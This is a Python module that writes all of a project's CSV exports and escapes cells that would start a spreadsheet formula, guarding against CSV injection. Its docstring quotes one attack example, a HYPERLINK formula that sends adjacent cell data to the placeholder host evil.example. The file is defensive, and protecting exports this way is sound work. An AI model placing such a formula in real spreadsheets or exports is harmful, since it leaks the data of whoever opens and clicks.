"""The one CSV writer of the project: every CSV export (Polis, the outcome section, the
moderation log, the open datasets) is written here, so no cell can start a spreadsheet formula.

A cell that starts with = + - @, a tab or a carriage return is run as a formula by Excel,
LibreOffice and Google Sheets (CSV injection: `=HYPERLINK("http://evil.example/?x="&A1,"x")`
sends the neighbouring cells away when clicked). Such text cells get a leading apostrophe, which
the spreadsheet shows as text and hides; numbers are written as numbers (a vote of -1 stays -1).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # lets spreadsheet programs read the Chinese as UTF-8


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet shows it as text: text starting a formula gets a "'"."""
    if type(value) is int:  # the common cell of large exports (ids, votes): nothing to do
        return value
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str | int | float):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class TextSink(Protocol):
    def write(self, text: str) -> Any: ...


class BinarySink(Protocol):
    def write(self, data: bytes) -> Any: ...


def write_csv(
    sink: TextSink,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    lineterminator: str = "\n",
) -> int:
    """Write a header and rows to `sink` as they come (nothing held in memory, for large open
    datasets), every cell through `safe_cell`; returns the row count."""
    writer = csv.writer(sink, lineterminator=lineterminator)
    writer.writerow([safe_cell(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        n += 1
    return n


def copy_csv(sink: BinarySink, header: Sequence[str], chunks: Iterable[bytes | memoryview]) -> int:
    """Write a header and CSV lines the database already wrote (blocks of rows, each line
    ending in "\n") to `sink`; returns the row count.

    Only for files with no text from people: every column must be a number, a code, or a time
    the database formats. No cell can then start a formula (a vote of -1 is a number, which
    `safe_cell` leaves alone too) and nothing needs quoting, so passing the database's bytes
    through is what `write_csv` would write, at C speed (votes.csv of a 5,000,000-vote
    consultation: deliberation/opendata/queries.vote_csv_blocks, compared byte for byte with
    the row writer in tests/opendata). The header still goes through `write_csv`."""
    head = io.StringIO()
    write_csv(head, header, ())
    sink.write(head.getvalue().encode("utf-8"))
    n = 0
    for chunk in chunks:
        data = bytes(chunk)  # the same object when it is bytes already
        sink.write(data)
        n += data.count(b"\n")
    return n


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    bom: bool = False,
    lineterminator: str = "\n",
) -> str:
    """A whole CSV file as text, every cell through `safe_cell`."""
    buffer = io.StringIO()
    if bom:
        buffer.write(BOM)
    write_csv(buffer, header, rows, lineterminator=lineterminator)
    return buffer.getvalue()


def csv_dict_text(
    fields: Sequence[str], rows: Iterable[Mapping[str, Any]], *, lineterminator: str = "\n"
) -> str:
    """`csv_text` for rows given as dicts keyed by the field names."""
    return csv_text(
        fields, ([row.get(f, "") for f in fields] for row in rows), lineterminator=lineterminator
    )
